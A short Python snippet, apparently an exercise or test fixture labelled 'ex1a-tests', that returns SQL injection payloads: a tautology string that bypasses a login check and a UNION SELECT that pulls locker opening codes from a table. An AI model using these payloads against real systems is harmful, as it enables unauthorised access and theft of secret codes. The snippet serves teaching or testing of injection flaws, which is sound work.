# fails: ex1a-tests
# why: makes the condition true of everybody, and gets the first account of the table
def payloads() -> dict:
    return {"name": "' OR 1=1 --", "pin": 'x', "place": "x' UNION SELECT locker, code FROM opening_codes --"}
